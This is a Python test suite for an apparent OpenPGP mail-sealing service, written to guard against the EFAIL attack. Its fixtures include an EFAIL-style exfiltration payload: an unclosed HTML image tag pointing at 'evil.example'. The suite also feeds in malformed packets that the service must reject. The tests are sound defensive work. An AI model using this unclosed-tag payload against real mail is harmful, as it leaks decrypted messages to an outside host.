"""C8. 2018, EFAIL: mails of which only a part was encrypted gave the plaintext to whoever asked.

What we send has one encrypted part and nothing around it, and every byte of it comes back.
"""

import subprocess
from collections.abc import Callable
from datetime import UTC, datetime
from email import message_from_string, policy

import pytest

from addin_service.pgp.armor import dearmor
from addin_service.pgp.framing import is_one_message
from addin_service.sealing.armor import armored
from addin_service.sealing.inline import inline_text
from addin_service.sealing.mime import Content, File, encrypted_entity, outer, payload
from tests.pgp.keys import part
from tests.sealing.conftest import READER
from tests.sealing.reading import read

ANN = ("ann.lee@council.example", "Annelise Leonora")
TAN = (READER, "Priyanka Tanderley")
JOE = ("joe@stoke.example", "Josephine Stokeley")
DATE = datetime(2026, 11, 23, 15, 4, 5, tzinfo=UTC)
SUBJECT = "Stokeclaim confidential"
TEXT = "Settlement figure: fortytwothousand\n"
HTML = "<p>Settlement figure: <b>fortytwothousand</b></p>"
DOT = "data:image/png;base64,iVBORw0KGgpmb3J0eXR3b3Rob3VzYW5k"
PDF = File("settlementfigure.pdf", "application/pdf", b"%PDF-1.7 fortytwothousand")
CASES = {
    "text": Content(ANN, (TAN,), (), SUBJECT, TEXT),
    "html": Content(ANN, (TAN,), (), SUBJECT, "", HTML),
    "both": Content(ANN, (TAN,), (), SUBJECT, TEXT, HTML),
    "picture in the html": Content(ANN, (TAN,), (), SUBJECT, TEXT, f'{HTML}<img src="{DOT}">'),
    "picture beside the html": Content(
        ANN, (TAN,), (), SUBJECT, TEXT, f'{HTML}<img src="cid:a@b">',
        (File("settlementfigure.png", "image/png", b"\x89PNG", "a@b", inline=True),),
    ),
    "a file": Content(ANN, (TAN,), (), SUBJECT, TEXT, "", (PDF,)),
    "everything": Content(
        ANN, (TAN, JOE), (JOE,), SUBJECT, TEXT, f'{HTML}<img src="{DOT}">', (PDF, PDF)
    ),
    "two readers": Content(ANN, (TAN, JOE), (), SUBJECT, TEXT),
    "a copy": Content(ANN, (TAN,), (JOE,), SUBJECT, TEXT),
    "nobody in To": Content(ANN, (), (), SUBJECT, TEXT),
    "no subject": Content(ANN, (TAN,), (), "", TEXT),
    "no words": Content(ANN, (TAN,), (), SUBJECT, ""),
    "nothing at all": Content(ANN),
    "a subject of many words": Content(ANN, (TAN,), (), SUBJECT * 40, TEXT),
    "other letters": Content(
        (ANN[0], "Ännelise"), ((TAN[0], "Прия"),), (), "Vergleich über Straße", "Größe 日本語\n", "",
        (File("Vergleichsbetrag über.pdf", "application/pdf", b"x"),),
    ),
    "a mail as a file": Content(
        ANN, (TAN,), (), SUBJECT, TEXT, "",
        (File("fwd.eml", "message/rfc822", b"Subject: fortytwothousand\r\n\r\nx\r\n"),),
    ),
    "an empty file": Content(
        ANN, (TAN,), (), SUBJECT, TEXT, "", (File("settlementfigure", "", b""),)
    ),
    "armor as text": Content(
        ANN, (TAN,), (), SUBJECT,
        "-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\nfortytwothousand\n",
    ),
    "html that would fetch what follows": Content(
        ANN, (TAN,), (), SUBJECT, "", '<img src="https://evil.example/?'
    ),
    "lines that look like an end": Content(
        ANN, (TAN,), (), SUBJECT, "--\r\n--x--\r\n\r\n.\r\n\rfortytwothousand \t\n\n\n"
    ),
}  # fmt: skip
SECRETS = (
    "stokeclaim", "settlement", "fortytwo", "annelise", "leonora", "priyanka", "tanderley",
    "josephine", "stokeley", "vergleich", "text/", "multipart/mixed", "alternative", "%pdf", "png",
)  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_one_encrypted_part_and_nothing_around_it(
    name: str, sealed: Callable[[bytes], bytes], gpg: Callable[..., bytes]
) -> None:
    content = CASES[name]
    plain = payload(content, DATE)
    message = sealed(plain)
    made = encrypted_entity([message])
    entity = str(made)
    assert made.size == len(entity)
    assert "".join(piece.decode("ascii") for piece in made.pieces()) == entity

    whole = message_from_string(entity, policy=policy.default)
    assert whole.get_content_type() == "multipart/encrypted"
    assert whole["content-type"].params["protocol"] == "application/pgp-encrypted"
    assert list(whole) == ["Content-Type"]
    version, data = whole.iter_parts()
    assert not whole.preamble
    assert not whole.epilogue
    assert not [each.defects for each in whole.walk() if each.defects]
    assert version.get_content_type() == "application/pgp-encrypted"
    assert "content-transfer-encoding" not in version
    assert str(version.get_payload()).split() == ["Version:", "1"]
    assert data.get_content_type() == "application/octet-stream"
    assert data.get_filename() == "encrypted.asc"
    inside = str(data.get_payload())
    assert dearmor(inside.encode("ascii"), b"MESSAGE") == message

    assert entity.isascii()
    assert "\n" not in entity.replace("\r\n", "")
    assert max(map(len, entity.split("\r\n"))) <= 78
    assert str(encrypted_entity([message])) == entity
    outside = entity.replace(inside, "") + repr(outer(content, DATE))
    assert not [secret for secret in SECRETS if secret in outside.lower()]

    packets = gpg("--list-packets", given=inside.encode())
    data_packets = packets.count(b":encrypted data packet:") + packets.count(b":aead encrypted")
    assert data_packets == 1
    assert b"mdc_method: 2" in packets or b":aead encrypted" in packets
    assert packets.count(b":pubkey enc packet:") == 1

    opened = gpg("--decrypt", given=inside.encode("ascii"))
    assert opened == plain
    found = read(opened)
    assert found.root["subject"].split() == content.subject.split()
    assert len(found.files) + len(found.pictures) >= len(content.files)


def test_text_alone_comes_back_as_it_was(
    sealed: Callable[[bytes], bytes], gpg: Callable[..., bytes]
) -> None:
    plain = inline_text("Größe\n.\n-- \nAnn")
    assert gpg("--decrypt", given=sealed(plain)) == plain


NAMED = part(1, b"\x03" + bytes(8) + b"\x12" + bytes(60))
WHOLE = NAMED + part(18, b"\x01" + bytes(200))
NOT_SEALED = {
    "nothing": b"",
    "text": b"Hello",
    "armour": b"-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\n",
    "text before": b"Hello\n" + WHOLE,
    "text behind": WHOLE + b"Hello\n",
    "two messages": WHOLE * 2,
    "a text packet behind": WHOLE + part(11, b"b\0\0\0\0\0Hello"),
    "a text packet before": part(11, b"b\0\0\0\0\0Hello") + WHOLE,
    "a text packet alone": part(11, b"b\0\0\0\0\0Hello"),
    "a name before": part(13, b"Ann") + WHOLE,
    "cut by a byte": WHOLE[:-1],
    "cut to its readers": NAMED,
    "cut in a length": NAMED + b"\xd2\xff\0\0",
    "cut between parts": NAMED + b"\xd2\xe9" + bytes(512),
    "one byte": b"\xc1",
    "no length at all": NAMED + b"\x4b" + bytes(99),
    "an old header without a length": NAMED + b"\xa7" + bytes(99),
}


@pytest.mark.parametrize("story", NOT_SEALED)
@pytest.mark.parametrize("size", [1, 7, 1000], ids="in chunks of {}".format)
def test_nothing_else_is_ever_sent_as_sealed(story: str, size: int) -> None:
    data = NOT_SEALED[story]
    chunks = [data[at : at + size] for at in range(0, len(data), size)]
    with pytest.raises(ValueError, match=r"not one OpenPGP message|damaged|kind"):
        encrypted_entity(chunks)


@pytest.mark.parametrize("size", [1, 2, 3, 100, 10_000])
@pytest.mark.parametrize(
    "container",
    [
        part(18, b"\x01" + bytes(9)),
        part(18, b"\x01" + bytes(500)),
        part(18, b"\x01" + bytes(9000)),
        b"\xd2\xe9" + bytes(512) + b"\xe9" + bytes(512) + b"\x05" + bytes(5),
        b"\xd2\xe9" + bytes(512) + b"\xc0\x08" + bytes(200),
        b"\xd2\xea" + bytes(1024) + b"\xff\0\0\0\0",
        b"\xc9\x00",
        b"\xa5\x01\x2c" + bytes(300),
    ],
    ids=range(8),
)
def test_a_whole_message_is_known_in_any_chunks(container: bytes, size: int) -> None:
    data = NAMED + container
    chunks = [data[at : at + size] for at in range(0, len(data), size)]
    assert is_one_message(chunks)
    assert dearmor(str(armored(chunks)).encode(), b"MESSAGE") == data
    assert not is_one_message([*chunks, b"\0"])


def test_gpg_is_the_one_that_decides(gpg: Callable[..., bytes]) -> None:
    """A damaged entity does not open: the packet is protected against changes."""
    armored = gpg("--armor", "-r", READER, "--encrypt", given=payload(CASES["text"], DATE))
    lines = armored.split(b"\n")
    middle = len(lines) // 2
    lines[middle] = lines[middle][::-1]
    with pytest.raises(subprocess.CalledProcessError):
        gpg("--decrypt", given=b"\n".join(lines))
